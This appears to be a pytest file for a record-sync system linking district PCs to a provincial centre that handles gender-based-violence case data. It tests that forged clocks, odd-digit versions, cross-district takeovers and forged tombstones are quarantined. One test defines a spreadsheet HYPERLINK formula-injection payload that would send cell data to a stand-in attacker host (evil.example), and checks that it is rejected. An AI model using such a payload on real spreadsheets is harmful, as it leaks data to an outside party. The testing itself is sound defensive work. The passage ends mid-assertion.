"""Attacks on the merge (issue 12: items 2, 4, 5 and 10, and the low item on tombstones), each made the
way an insider would: through the public functions, and where a bundle is the real path, a bundle signed
by a district PC's own enrolled key (``craft_bundle`` with the key read from that PC's database).

Each test failed on the code before its fix (the commit that added it says how that was checked). A test
of bad input asserts the exact reason and that nothing else was written.

The module builds one linked world once (a centre, Quetta PCs A and B, Pishin PC C) and every test works
on fresh file copies of it, opened with their database keys.
"""

from __future__ import annotations

import datetime as dt
import itertools
import json
import shutil
import time
import types
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given
from hypothesis import strategies as st

from storage.core.clock import format_hlc, parse_hlc, utc_now
from storage.core.keyslots import keyfile_path
from storage.core.session import Session, open_session, open_with_key
from storage.errors import MizanError
from storage.reference.catalogue import TOTAL_CELL
from sync.importer import ImportOutcome, import_bundles
from sync.keys import age_recipient, signing_private_key
from sync.receipts import import_receipt, write_receipts
from sync.review import list_conflicts, resolve_conflict
from tests.conftest import ADMIN_PASSWORD, CLERK_PASSWORD, SUPERVISOR_PASSWORD, table_counts
from tests.sync_helpers import (
    add_desk_cases,
    add_values,
    craft_bundle,
    desk_case,
    export_to,
    last_month,
    link,
    make_centre,
    make_district,
    opened_bundle,
)

# -- the world: a centre, two Quetta PCs and a Pishin PC, built once, used through file copies ------------


@dataclass(frozen=True)
class Installation:
    path: Path
    db_key: bytes
    user: str
    device_id: str
    district: str | None
    device_name: str
    signing_key: Ed25519PrivateKey | None = None


@dataclass(frozen=True)
class World:
    centre: Installation
    devices: dict[str, Installation]  # "A", "B": Quetta; "C": Pishin
    recipient: str


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> World:
    folder = tmp_path_factory.mktemp("attacks")
    centre_path = make_centre(folder)
    clerk = open_session(centre_path, "clara", CLERK_PASSWORD)
    devices = {}
    for name, district, device_name in (("A", "QUETTA", "Quetta DPO"), ("B", "QUETTA", "Quetta desk PC"),
                                        ("C", "PISHIN", "Pishin DPO")):
        path = make_district(folder, district, device_name=device_name, name=f"pristine-{name}.db")
        admin = open_session(path, "admin", ADMIN_PASSWORD)
        link(clerk, admin, folder)
        key = signing_private_key(admin)
        admin.close()
        supervisor = open_session(path, "sana", SUPERVISOR_PASSWORD)
        devices[name] = Installation(path, supervisor.db_key, "sana", supervisor.device_id, district, device_name, key)
        supervisor.close()
    centre = Installation(centre_path, clerk.db_key, "clara", clerk.device_id, None, "Provincial centre")
    recipient = age_recipient(clerk)
    clerk.close()
    return World(centre, devices, recipient)


@dataclass
class Env:
    """One test's fresh copies: the centre (clerk) and, on demand, district PCs (supervisor sessions)."""

    world: World
    folder: Path
    centre: Session
    opened: dict[str, Session] = field(default_factory=dict)
    sequences: Iterator[int] = field(default_factory=lambda: itertools.count(1000))

    def district(self, name: str) -> Session:
        """A fresh copy of PC ``name`` that trusts the centre and has exported nothing."""
        if name not in self.opened:
            self.opened[name] = _copy(self.world.devices[name], self.folder / f"district-{name}.db")
        return self.opened[name]

    def bundle(self, name: str, records: dict[str, list[dict]], **manifest_changes: object) -> Path:
        """A bundle of ``records`` signed by PC ``name``'s own enrolled key (a correctly signed bundle)."""
        device = self.world.devices[name]
        sequence = next(self.sequences)
        return craft_bundle(self.folder / "usb" / f"{device.district}-{device.device_id[:8]}-{sequence}.mizan",
                            recipient=self.world.recipient, private_key=device.signing_key,
                            device_id=device.device_id, district=device.district, device_name=device.device_name,
                            records=records, sequence=sequence, manifest_changes=manifest_changes or None)

    def import_(self, *paths: Path) -> list[ImportOutcome]:
        outcomes = import_bundles(self.centre, list(paths))
        assert [o.status for o in outcomes] == ["imported"] * len(paths), [o.as_dict() for o in outcomes]
        return outcomes


def _copy(original: Installation, path: Path) -> Session:
    path.parent.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(original.path, path)
    shutil.copyfile(keyfile_path(original.path), keyfile_path(path))
    return open_with_key(path, original.user, original.db_key)


@pytest.fixture
def env(world: World, tmp_path: Path) -> Iterator[Env]:
    built = Env(world, tmp_path, _copy(world.centre, tmp_path / "centre.db"))
    yield built
    for session in [built.centre, *built.opened.values()]:
        session.close()


# -- records as they travel -------------------------------------------------------------------------------

COUNTER_LIMIT = 10**6  # a version's counter has six digits


def wall_millis() -> int:
    return int(time.time() * 1000)


def version_now(ahead_ms: int = 0, counter: int = 0) -> str:
    return format_hlc(wall_millis() + ahead_ms, counter)


def value_record(device: Installation, **changes: object) -> dict:
    """An indicator value as it travels (sync/schema.py), valid for the device's district."""
    record = {"indicator": "PRO-01", "district": device.district, "period": last_month(), "cell": TOTAL_CELL,
              "value": 17, "numerator": None, "denominator": None, "comment": None, "followup": 0,
              "entered_by": "sana", "entered_at": utc_now(), "uuid": str(uuid.uuid4()), "hlc": version_now(),
              "origin_device": device.device_id, "deleted": 0}
    record.update(changes)
    return record


def stored_value(session: Session, indicator: str = "PRO-01", district: str = "QUETTA") -> dict | None:
    row = session.db.execute("SELECT value, hlc, origin_device FROM indicator_values WHERE indicator = ? AND "
                             "district = ? AND period = ? AND cell = ?",
                             [indicator, district, last_month(), TOTAL_CELL]).fetchone()
    return None if row is None else dict(zip(("value", "hlc", "origin_device"), row, strict=True))


def quarantined(session: Session) -> list[tuple[str, str, list[str]]]:
    """(record type, record uuid, reasons' messages) of every quarantined record, oldest first."""
    return [(record_type, record_uuid, [reason["message"] for reason in json.loads(reasons)])
            for record_type, record_uuid, reasons in session.db.execute(
                "SELECT record_type, record_uuid, reasons FROM quarantine ORDER BY id")]


def written(before: dict[str, int], after: dict[str, int]) -> dict[str, int]:
    """Rows added (or removed, negative) per table between two ``table_counts``."""
    return {table: after.get(table, 0) - count for table, count in before.items() if after.get(table, 0) != count} | {
        table: count for table, count in after.items() if table not in before}


# -- item 4: versions compare as numbers, in a fixed width -------------------------------------------------


@given(st.lists(st.tuples(st.integers(0, 10**13 - 4), st.integers(0, 3 * COUNTER_LIMIT)), min_size=2, max_size=6))
def test_versions_are_fixed_width_and_sort_as_text_in_numeric_order(pairs):
    """A counter past six digits (a clerk's decision right above a version with counter 999999) carries into
    the milliseconds: every version is 20 characters, and text order is numeric order."""
    versions = [format_hlc(millis, counter) for millis, counter in pairs]
    numbers = [millis * COUNTER_LIMIT + counter for millis, counter in pairs]
    assert all(len(version) == 20 for version in versions)
    for (first, first_number), (second, second_number) in itertools.product(zip(versions, numbers, strict=True), repeat=2):
        assert (first < second) == (first_number < second_number), (first, second)
    assert [parse_hlc(version)[0] * COUNTER_LIMIT + parse_hlc(version)[1] for version in versions] == numbers


def test_a_clerks_decision_is_not_reopened_by_the_next_cumulative_bundle(env):
    """A PC's version with counter 999999 (its clock a minute fast) wins a key; the clerk keeps the other
    PC's figure. The decision's version used to be written with a seven-digit counter, which sorts below
    999999 as text, so the first PC's next cumulative bundle (the same record again) took the key back and
    reopened the conflict."""
    a = env.world.devices["A"]
    fast = value_record(a, value=10, hlc=version_now(ahead_ms=60_000, counter=COUNTER_LIMIT - 1))
    env.import_(env.bundle("A", {"indicator_values": [fast]}))
    quetta_b = env.district("B")
    add_values(quetta_b, {"PRO-01": 20})
    env.import_(export_to(quetta_b, env.folder / "usb"))
    [conflict] = list_conflicts(env.centre)
    assert (conflict.stored.record["value"], conflict.incoming.record["value"]) == (10, 20)

    decision = resolve_conflict(env.centre, conflict.id, "incoming", seen=conflict.versions)
    assert decision.version > fast["hlc"] and len(decision.version) == 20
    assert parse_hlc(decision.version) > parse_hlc(fast["hlc"])
    env.import_(env.bundle("A", {"indicator_values": [fast]}))  # A's next bundle: cumulative, the same record
    env.import_(export_to(quetta_b, env.folder / "usb"))  # and B's
    assert stored_value(env.centre) == {"value": 20, "hlc": decision.version, "origin_device": env.centre.device_id}
    assert list_conflicts(env.centre) == []


def test_a_version_in_other_digits_is_quarantined_and_cannot_outrank_later_writes(env):
    """Arabic-Indic digits passed the old version check (``\\d``) and, compared as text, sort above every
    version in ASCII digits: such a record would have beaten every later write of its key forever."""
    a = env.world.devices["A"]
    eastern = "".join(chr(0x0660 + int(d)) if d.isdigit() else d for d in version_now())
    forged = value_record(a, value=99, hlc=eastern)
    before = table_counts(env.centre)
    [outcome] = env.import_(env.bundle("A", {"indicator_values": [forged]}, hlc_high=version_now()))
    assert (outcome.counts["quarantined"], outcome.counts["new"]) == (1, 0)
    assert quarantined(env.centre) == [("indicator_values", forged["uuid"], [
        "The record is not shaped like a Mizan indicator_values record (its uuid or version is malformed). "
        "It was kept aside for review."])]
    assert written(before, table_counts(env.centre)) == {"quarantine": 1, "bundles": 1}

    later = value_record(a, value=5, uuid=forged["uuid"])
    env.import_(env.bundle("A", {"indicator_values": [later]}))
    assert stored_value(env.centre)["value"] == 5


def test_stored_versions_of_another_width_are_rewritten_with_the_same_value(env):
    """What the old code could have stored (a decision with a seven-digit counter, a version in Arabic-Indic
    digits) is rewritten in the fixed width by the migration, keeping each version's numeric value."""
    from storage.core.schema import fixed_width_versions

    a = env.world.devices["A"]
    env.import_(env.bundle("A", {"indicator_values": [value_record(a, indicator="PRO-01"),
                                                      value_record(a, indicator="CRT-01")]}))
    with env.centre.db.atomic():
        env.centre.db.execute("UPDATE indicator_values SET hlc = '1796406228618.1000000' WHERE indicator = 'PRO-01'")
        env.centre.db.execute("UPDATE indicator_values SET hlc = ? WHERE indicator = 'CRT-01'",
                              ["".join(chr(0x0660 + int(d)) if d.isdigit() else d for d in "1796406228618.000042")])
        fixed_width_versions(env.centre.db)
    assert {row[0]: row[1] for row in env.centre.db.execute("SELECT indicator, hlc FROM indicator_values")} == {
        "PRO-01": "1796406228619.000000", "CRT-01": "1796406228618.000042"}


# -- item 4: a wrong clock does not win forever ------------------------------------------------------------


def millis_of(day: str) -> int:
    """Noon of ``day`` (yyyy-mm-dd) on this PC's clock, in milliseconds."""
    return int(dt.datetime.fromisoformat(f"{day}T12:00:00").timestamp() * 1000)


@pytest.mark.parametrize("version", [format_hlc(millis_of("2031-05-02"), 0), "9999999999999.999999"])
def test_a_record_from_a_clock_ahead_is_quarantined_and_the_later_correct_entry_wins(env, version):
    """A Quetta PC whose clock says 2031 (or a forged version 9999999999999) used to win its key at the
    centre until that date: every later, correct entry for the key lost to it."""
    a = env.world.devices["A"]
    ahead = value_record(a, value=99, hlc=version)
    centre_clock = env.centre.db.execute("SELECT hlc_last FROM installation").fetchone()[0]
    before = table_counts(env.centre)
    [outcome] = env.import_(env.bundle("A", {"indicator_values": [ahead]}))
    assert (outcome.counts["quarantined"], outcome.counts["new"]) == (1, 0)
    day = dt.datetime.fromtimestamp(parse_hlc(version)[0] / 1000).date().isoformat()
    assert quarantined(env.centre) == [("indicator_values", ahead["uuid"], [
        f"The sending PC's clock read {day} when the record was saved, more than a day ahead of the centre's "
        f"({dt.date.today().isoformat()}): correct the date on that PC and export again. It was kept aside for "
        "review."])]
    assert written(before, table_counts(env.centre)) == {"quarantine": 1, "bundles": 1}
    assert env.centre.db.execute("SELECT hlc_last FROM installation").fetchone()[0] == centre_clock

    # The same PC, its date corrected: the next entry of the key is stored, and stays stored.
    corrected = value_record(a, value=7)
    env.import_(env.bundle("A", {"indicator_values": [corrected]}))
    assert stored_value(env.centre) == {"value": 7, "hlc": corrected["hlc"], "origin_device": a.device_id}


# -- items 2 and 5: a record changes only a row of its own device, or of its own district -------------------

PISHIN_DESK = "PSN-SADR"


def desk_record(device: Installation | None, code: str = "QTA-CITY", **changes: object) -> dict:
    """A desk as it travels; ``device`` None: the seeded desk exactly as every installation has it."""
    seeded = {"code": "QTA-CITY", "name": "City Police Station desk", "district": "QUETTA", "station": "City",
              "opened": "2024-05-01"}
    record = {**seeded, "code": code, "active": 1, "uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"mizan:desk:{code}")),
              "hlc": "0000000000000.000000", "origin_device": "seed", "deleted": 0}
    if device is not None:
        record.update(district=device.district, hlc=version_now(), origin_device=device.device_id)
    record.update(changes)
    return record


def pishin_desk(env: Env) -> dict:
    """Pishin's own desk (Mizan seeds none there), imported so Pishin's crafted cases have a desk."""
    desk = desk_record(env.world.devices["C"], PISHIN_DESK, name="Saddar Police Station desk", station="Saddar")
    env.import_(env.bundle("C", {"desks": [desk]}))
    return desk


def quetta_case(env: Env) -> dict[str, list[dict]]:
    """A consenting case with a perpetrator and a service saved on Quetta PC A, exported and imported:
    the records as they travelled."""
    quetta = env.district("A")
    add_desk_cases(quetta, 1)
    path = export_to(quetta, env.folder / "usb")
    env.import_(path)
    _, entries = opened_bundle(env.centre, path)
    return {record_type: [json.loads(line) for line in entries[f"{record_type}.jsonl"].splitlines()]
            for record_type in ("desk_cases", "desk_case_perpetrators", "desk_case_services")}


def desk_row(session: Session, code: str = "QTA-CITY") -> dict:
    columns = ("code", "district", "active", "hlc", "origin_device")
    return dict(zip(columns, session.db.execute(f"SELECT {', '.join(columns)} FROM desks WHERE code = ?",
                                                [code]).fetchone(), strict=True))


def case_rows(session: Session, case_uuid: str) -> dict[str, list[tuple]]:
    return {table: session.db.execute(f"SELECT uuid, hlc, origin_device FROM {table} WHERE "
                                      f"{'uuid' if table == 'desk_cases' else 'case_uuid'} = ? ORDER BY uuid",
                                      [case_uuid]).fetchall()
            for table in ("desk_cases", "desk_case_perpetrators", "desk_case_services")}


def assert_only_quarantined(env: Env, path: Path, reasons: list[tuple[str, str, list[str]]]) -> None:
    """Import ``path``: exactly these records quarantined with exactly these reasons, nothing else written."""
    before, quarantine_before = table_counts(env.centre), quarantined(env.centre)
    [outcome] = env.import_(path)
    assert outcome.counts == {"new": 0, "updated": 0, "unchanged": 0, "conflicts": 0, "quarantined": len(reasons)}
    assert quarantined(env.centre)[len(quarantine_before):] == reasons
    assert written(before, table_counts(env.centre)) == {"quarantine": len(reasons), "bundles": 1}


@pytest.mark.parametrize("origin", ["seed", "own"])
def test_a_pishin_pc_cannot_take_over_a_quetta_desk(env, origin):
    """A Pishin PC's bundle carrying desk QTA-CITY, district PISHIN, inactive and a newer version, claiming
    the seed's origin (or its own) used to be merged: the desk became Pishin's and inactive, and Quetta's next
    real bundle, with a case at that desk, was quarantined."""
    pishin = env.world.devices["C"]
    taken = desk_record(pishin, active=0)
    if origin == "seed":
        taken["origin_device"] = "seed"
    seeded = desk_row(env.centre)
    assert_only_quarantined(env, env.bundle("C", {"desks": [taken]}), [("desks", taken["uuid"], [
        "Desk QTA-CITY belongs to QUETTA; a PISHIN PC may not change it. It was kept aside for review."])])
    assert desk_row(env.centre) == seeded == {"code": "QTA-CITY", "district": "QUETTA", "active": 1,
                                              "hlc": "0000000000000.000000", "origin_device": "seed"}

    case = quetta_case(env)["desk_cases"][0]  # Quetta's next real bundle: a case at QTA-CITY
    assert env.centre.db.execute("SELECT desk FROM desk_cases WHERE uuid = ?", [case["uuid"]]).fetchone() == (
        "QTA-CITY",)
    assert len(quarantined(env.centre)) == 1


def test_a_quetta_pc_may_not_claim_the_seed_for_its_own_change_of_a_desk(env):
    """The seed's origin is claimed only for a desk exactly as Mizan seeds it; a PC's change carries its own
    device, else a bundle could write as the seed (whose rows every installation shares)."""
    a = env.world.devices["A"]
    changed = desk_record(None, active=0, hlc=version_now())
    assert_only_quarantined(env, env.bundle("A", {"desks": [changed]}), [("desks", changed["uuid"], [
        f"The record claims to come from device 'seed', but the bundle was signed by {a.device_id}. It was kept "
        "aside for review."])])
    assert desk_row(env.centre)["active"] == 1


def test_a_desk_of_the_same_district_is_shared_by_its_pcs(env):
    """The rule's other side: Quetta's seeded desk may be changed by a Quetta PC (its own origin), and two
    Quetta PCs writing one desk is an ordinary conflict, not a quarantine."""
    a, b = env.world.devices["A"], env.world.devices["B"]
    first = desk_record(a, active=0)
    env.import_(env.bundle("A", {"desks": [first]}))
    assert desk_row(env.centre) == {"code": "QTA-CITY", "district": "QUETTA", "active": 0, "hlc": first["hlc"],
                                    "origin_device": a.device_id}
    second = desk_record(b, name="City desk (renamed)")
    [outcome] = env.import_(env.bundle("B", {"desks": [second]}))
    assert (outcome.counts["conflicts"], outcome.counts["quarantined"]) == (1, 0)
    assert desk_row(env.centre)["origin_device"] == b.device_id


@pytest.mark.parametrize("device", ["C", "B"])
def test_another_pcs_tombstone_does_not_delete_a_case(env, device):
    """A minimal tombstone (consent withdrawn) from a Pishin PC, or from another Quetta PC, for a case
    Quetta PC A wrote used to delete it at the centre, with its children once theirs came too."""
    travelled = quetta_case(env)
    case = travelled["desk_cases"][0]
    stored = case_rows(env.centre, case["uuid"])
    writer = env.world.devices[device]
    tombstone = {"uuid": case["uuid"], "hlc": version_now(), "origin_device": writer.device_id, "deleted": 1}
    assert_only_quarantined(env, env.bundle(device, {"desk_cases": [tombstone]}), [("desk_cases", case["uuid"], [
        f"Record {case['uuid']} belongs to the PC 'Quetta DPO' (QUETTA); the PC '{writer.device_name}' "
        f"({writer.district}) may not change or delete it. It was kept aside for review."])])
    assert case_rows(env.centre, case["uuid"]) == stored
    assert env.centre.db.execute("SELECT count(*) FROM tombstones").fetchone() == (0,)


def test_a_pishin_record_with_a_quetta_case_uuid_does_not_replace_it(env):
    """Records keyed by uuid had no owner check at all: a Pishin PC's case with the uuid of a Quetta case
    replaced it (the case moved to Pishin, with Pishin's content)."""
    case = quetta_case(env)["desk_cases"][0]
    pishin_desk(env)
    stored = case_rows(env.centre, case["uuid"])
    pishin = env.world.devices["C"]
    forged = {**case, "desk": PISHIN_DESK, "district": "PISHIN", "case_number": f"PSN-SADR-2026-0001@{pishin.device_id[:8]}",
              "status": "closed", "closing_reason": "needs_met", "hlc": version_now(), "origin_device": pishin.device_id}
    assert_only_quarantined(env, env.bundle("C", {"desk_cases": [forged]}), [("desk_cases", case["uuid"], [
        f"Record {case['uuid']} belongs to the PC 'Quetta DPO' (QUETTA); the PC 'Pishin DPO' (PISHIN) may not "
        "change or delete it. It was kept aside for review."])])
    assert case_rows(env.centre, case["uuid"]) == stored


def test_a_pishin_pc_cannot_add_to_a_quetta_case(env):
    """A service record of a Pishin PC pointing at a Quetta case was merged as one of that case's services."""
    case = quetta_case(env)["desk_cases"][0]
    stored = case_rows(env.centre, case["uuid"])
    pishin = env.world.devices["C"]
    service = {"case_uuid": case["uuid"], "service": "health", "status": "referred",
               "date": (dt.date.today() - dt.timedelta(days=1)).isoformat(), "uuid": str(uuid.uuid4()),
               "hlc": version_now(), "origin_device": pishin.device_id, "deleted": 0}
    assert_only_quarantined(env, env.bundle("C", {"desk_case_services": [service]}), [
        ("desk_case_services", service["uuid"], [
            f"Record {case['uuid']} belongs to the PC 'Quetta DPO' (QUETTA); the PC 'Pishin DPO' (PISHIN) may not "
            "change or delete it. It was kept aside for review."])])
    assert case_rows(env.centre, case["uuid"]) == stored


def test_a_pishin_case_at_a_quetta_desk_is_quarantined(env):
    """A desk belongs to its district: a Pishin PC's case filed at QTA-CITY would count among that desk's."""
    case = quetta_case(env)["desk_cases"][0]
    pishin = env.world.devices["C"]
    filed = {**case, "district": "PISHIN", "uuid": str(uuid.uuid4()), "hlc": version_now(),
             "case_number": f"QTA-CITY-2026-0009@{pishin.device_id[:8]}", "origin_device": pishin.device_id}
    assert_only_quarantined(env, env.bundle("C", {"desk_cases": [filed]}), [("desk_cases", filed["uuid"], [
        "Desk QTA-CITY belongs to QUETTA; a PISHIN PC may not record cases or requests at it. It was kept aside "
        "for review."])])


def test_a_tombstone_sent_first_by_another_pc_does_not_keep_a_case_out(env):
    """Tombstones were one per uuid whoever sent them: a Pishin PC's tombstone for a Quetta case the centre
    had not received yet, newer than the case, kept the case out when it came."""
    quetta = env.district("A")
    [case_uuid] = add_desk_cases(quetta, 1)
    pishin = env.world.devices["C"]
    early = {"uuid": case_uuid, "hlc": version_now(), "origin_device": pishin.device_id, "deleted": 1}
    [outcome] = env.import_(env.bundle("C", {"desk_cases": [early]}))
    assert (outcome.counts["unchanged"], outcome.counts["quarantined"]) == (1, 0)
    env.import_(export_to(quetta, env.folder / "usb"))
    assert [row[0] for row in case_rows(env.centre, case_uuid)["desk_cases"]] == [case_uuid]


# -- item 10: a tombstone purges the quarantined copies of its record ---------------------------------------


def failing_case(env: Env) -> dict:
    """A Quetta PC A case as it travels that the centre refuses (a client sex that is not on the form)."""
    case = quetta_case(env)["desk_cases"][0]
    return {**case, "uuid": str(uuid.uuid4()), "client_sex": "unknown-sex", "hlc": version_now(),
            "case_number": case["case_number"].replace("-0001@", "-0002@")}


def test_withdrawing_consent_purges_the_quarantined_copy_of_the_case(env):
    """Quarantine kept a withdrawn case: the client withdrew consent (a tombstone arrived), yet the copy the
    centre had set aside stayed there, for a clerk to read, forever."""
    bad = failing_case(env)
    [outcome] = env.import_(env.bundle("A", {"desk_cases": [bad]}))
    assert outcome.counts["quarantined"] == 1 and quarantined(env.centre)[0][1] == bad["uuid"]
    a = env.world.devices["A"]
    withdrawal = {"uuid": bad["uuid"], "hlc": version_now(), "origin_device": a.device_id, "deleted": 1}
    env.import_(env.bundle("A", {"desk_cases": [withdrawal]}))
    assert quarantined(env.centre) == []
    assert env.centre.db.execute("SELECT record_uuid, hlc FROM tombstones").fetchall() == [(bad["uuid"],
                                                                                          withdrawal["hlc"])]


def test_a_copy_older_than_the_withdrawal_is_not_kept_in_quarantine_whatever_the_order(env):
    """The other order: the withdrawal arrives first, then an older bundle whose copy of the case fails the
    checks. It is not set aside (an older copy of a case that is not at the centre arrives and stays out)."""
    bad = failing_case(env)
    a = env.world.devices["A"]
    withdrawal = {"uuid": bad["uuid"], "hlc": version_now(), "origin_device": a.device_id, "deleted": 1}
    old_bundle = env.bundle("A", {"desk_cases": [bad]})
    env.import_(env.bundle("A", {"desk_cases": [withdrawal]}))
    before = table_counts(env.centre)
    [outcome] = env.import_(old_bundle)
    assert (outcome.counts["quarantined"], outcome.counts["unchanged"]) == (0, 1)
    assert quarantined(env.centre) == []
    assert written(before, table_counts(env.centre)) == {"bundles": 1}


def test_another_pcs_tombstone_does_not_purge_a_quarantined_case(env):
    """Only the case's own PC withdraws it: a Pishin tombstone leaves Quetta's quarantined copy for review."""
    bad = failing_case(env)
    env.import_(env.bundle("A", {"desk_cases": [bad]}))
    pishin = env.world.devices["C"]
    env.import_(env.bundle("C", {"desk_cases": [{"uuid": bad["uuid"], "hlc": version_now(),
                                                 "origin_device": pishin.device_id, "deleted": 1}]}))
    assert [entry[1] for entry in quarantined(env.centre)] == [bad["uuid"]]


# -- item 4: a district PC whose date is wrong does not save -----------------------------------------------

DAY = 24 * 60 * 60


def set_pc_clock(monkeypatch: pytest.MonkeyPatch, seconds: float) -> None:
    """This PC's clock reads ``seconds`` ahead (negative: behind) of the true time, for the versions it issues."""
    from storage.core import clock

    real = time.time
    monkeypatch.setattr(clock, "time", types.SimpleNamespace(time=lambda: real() + seconds))


def pc_date(seconds: float = 0) -> str:
    return dt.datetime.fromtimestamp(time.time() + seconds).date().isoformat()


def test_a_pc_whose_clock_was_set_back_refuses_to_save_and_says_why(env, monkeypatch):
    """Saved while the clock ran three days ahead, then the date was put back: every new version would sort
    below the PC's own earlier work (and lose to it at the centre). The PC used to save anyway."""
    quetta = env.district("A")
    with monkeypatch.context() as ahead:
        set_pc_clock(ahead, 3 * DAY)
        add_values(quetta, {"PRO-01": 41})
    before = table_counts(quetta)
    for save in (lambda: add_values(quetta, {"CRT-01": 5}), lambda: add_desk_cases(quetta, 1),
                 lambda: export_to(quetta, env.folder / "usb")):
        with pytest.raises(MizanError) as refused:
            save()
        assert str(refused.value) == (
            f"This PC's clock reads {pc_date()}, but records were saved on it up to {pc_date(3 * DAY)}. If "
            "today's date is wrong, correct the PC's date and time. If it is right, those records were saved "
            "while the clock ran ahead: a supervisor dates them today with `clock repair`, and then saving works "
            "again.")
        assert table_counts(quetta) == before
    with monkeypatch.context() as corrected:  # the date put right again (forward): saving works
        set_pc_clock(corrected, 3 * DAY)
        add_values(quetta, {"CRT-01": 5})


def test_a_pc_whose_clock_runs_a_year_past_the_newest_receipt_refuses_to_save(env, monkeypatch):
    """The centre's signed receipt says what time it is there: a PC more than a year past it has a wrong date,
    and its versions would beat everyone's correct writes (or be kept aside at the centre)."""
    quetta = env.district("A")
    add_values(quetta, {"PRO-01": 41})
    env.import_(export_to(quetta, env.folder / "usb"))
    (env.folder / "receipts").mkdir()
    [receipt] = write_receipts(env.centre, env.folder / "receipts", [quetta.device_id])
    import_receipt(quetta, receipt)
    made_at = json.loads(receipt.read_text(encoding="utf-8"))["receipt"]["made_at"]
    receipt_day = dt.datetime.fromisoformat(made_at.replace("Z", "+00:00")).astimezone().date().isoformat()
    set_pc_clock(monkeypatch, 400 * DAY)
    before = table_counts(quetta)
    with pytest.raises(MizanError) as refused:
        add_values(quetta, {"CRT-01": 5})
    assert str(refused.value) == (
        f"This PC's clock reads {pc_date(400 * DAY)}, more than a year after the centre's newest receipt "
        f"({receipt_day}). Correct the PC's date and time, then save again.")
    assert table_counts(quetta) == before


def test_after_the_date_is_corrected_clock_repair_brings_the_records_to_the_centre(env, monkeypatch, capsys):
    """A PC whose clock said 2031: the centre keeps its records aside ("correct the date and export again");
    once the date is corrected the PC refuses to save and to export until `clock repair` dates those records
    today. Then they reach the centre, and the copies kept aside under the wrong date go."""
    from main import main

    quetta, a = env.district("A"), env.world.devices["A"]
    years = (dt.datetime(2031, 5, 2, 12) - dt.datetime.now()).total_seconds()
    with monkeypatch.context() as wrong:
        set_pc_clock(wrong, years)
        add_values(quetta, {"PRO-01": 41})
        wrong_bundle = export_to(quetta, env.folder / "usb")
    [outcome] = env.import_(wrong_bundle)
    assert outcome.counts["quarantined"] == 1 and "2031-05-02" in quarantined(env.centre)[0][2][0]
    (env.folder / "receipts").mkdir()
    [receipt] = write_receipts(env.centre, env.folder / "receipts", [a.device_id])
    import_receipt(quetta, receipt)  # the bundle arrived: the baseline moved to its (2031) versions

    with pytest.raises(MizanError, match="up to 2031-05-02"):
        add_values(quetta, {"CRT-01": 5})
    with pytest.raises(MizanError, match="up to 2031-05-02"):
        export_to(quetta, env.folder / "usb")
    monkeypatch.setenv("MIZAN_PASSWORD", SUPERVISOR_PASSWORD)
    assert main(["--db", str(quetta.path), "--user", "sana", "clock", "repair", "--json"]) == 0
    assert json.loads(capsys.readouterr().out) == {"repaired": 1}
    add_values(quetta, {"CRT-01": 5})
    [outcome] = env.import_(export_to(quetta, env.folder / "usb"))
    assert (outcome.counts["new"], outcome.counts["quarantined"]) == (2, 0)
    assert (stored_value(env.centre)["value"], stored_value(env.centre, "CRT-01")["value"]) == (41, 5)
    assert quarantined(env.centre) == []


# -- low: a case that never travelled sends no tombstone ---------------------------------------------------


def test_a_case_that_never_travelled_sends_no_tombstone(env):
    """A case saved without consent to reporting used to travel as a minimal tombstone (for it and each of its
    children): the centre learned that a case existed at that office, and when."""
    quetta = env.district("A")
    [private] = add_desk_cases(quetta, 1, consent_reporting=False)
    [shared] = add_desk_cases(quetta, 1)
    path = export_to(quetta, env.folder / "usb")
    _, entries = opened_bundle(env.centre, path)
    carried = {record_type: [json.loads(line) for line in entries[f"{record_type}.jsonl"].splitlines()]
               for record_type in ("desk_cases", "desk_case_perpetrators", "desk_case_services")}
    assert [record["uuid"] for record in carried["desk_cases"]] == [shared]
    assert {record["case_uuid"] for record in carried["desk_case_perpetrators"] + carried["desk_case_services"]} == {
        shared}
    assert private.encode() not in b"".join(entries.values())
    env.import_(path)
    assert env.centre.db.execute("SELECT count(*) FROM tombstones").fetchone() == (0,)

    # A case that did travel sends its tombstone when consent is withdrawn, and the centre drops it.
    from storage.records.desk import get_desk_case, save_desk_case

    stored = get_desk_case(quetta, shared)
    save_desk_case(quetta, {**desk_case(client_code="QC-001"), "uuid": shared, "consent_reporting": False},
                   perpetrators=stored["perpetrators"], services=stored["services"])
    withdrawn = export_to(quetta, env.folder / "usb")
    [hlc] = quetta.db.execute("SELECT hlc FROM desk_cases WHERE uuid = ?", [shared]).fetchone()
    assert [json.loads(line) for line in opened_bundle(env.centre, withdrawn)[1]["desk_cases.jsonl"].splitlines()] == [
        {"uuid": shared, "hlc": hlc, "origin_device": quetta.device_id, "deleted": 1}]
    env.import_(withdrawn)
    assert case_rows(env.centre, shared) == {"desk_cases": [], "desk_case_perpetrators": [], "desk_case_services": []}


# -- low: the travelling free-text fields are list values, whatever the type or status ---------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"Open")'


def test_free_text_in_the_complaint_or_closing_reason_of_a_case_is_quarantined(env):
    """``non_gbv_complaint`` was checked only on a non-GBV case and ``closing_reason`` only on a closed one:
    a correctly signed bundle carried any text (a spreadsheet formula, a name) to the centre in them."""
    case = quetta_case(env)["desk_cases"][0]
    assert (case["gbv_type"], case["status"]) != ("non_gbv", "closed")
    complaint = {**case, "uuid": str(uuid.uuid4()), "hlc": version_now(), "non_gbv_complaint": FORMULA,
                 "case_number": case["case_number"].replace("-0001@", "-0002@")}
    reason = {**case, "uuid": str(uuid.uuid4()), "hlc": version_now(), "status": "open", "closing_reason": FORMULA,
              "case_number": case["case_number"].replace("-0001@", "-0003@")}
    choices = {name: ", ".join(env.centre.catalogue.list_codes(name)) for name in ("non_gbv_complaint", "closing_reason")}
    assert_only_quarantined(env, env.bundle("A", {"desk_cases": [complaint, reason]}), [
        ("desk_cases", complaint["uuid"], [
            f"'{FORMULA}' is not a choice for kind of non-GBV complaint. Choose one of: {choices['non_gbv_complaint']}.",
            f"The case is classified as {case['gbv_type']}, not non-GBV, but has the non-GBV complaint '{FORMULA}'. "
            "Clear the kind of complaint, or check the classification."]),
        ("desk_cases", reason["uuid"], [
            f"'{FORMULA}' is not a choice for closing reason. Choose one of: {choices['closing_reason']}.",
            f"The case is not closed but has the closing reason '{FORMULA}'. Clear the closing reason, or close the "
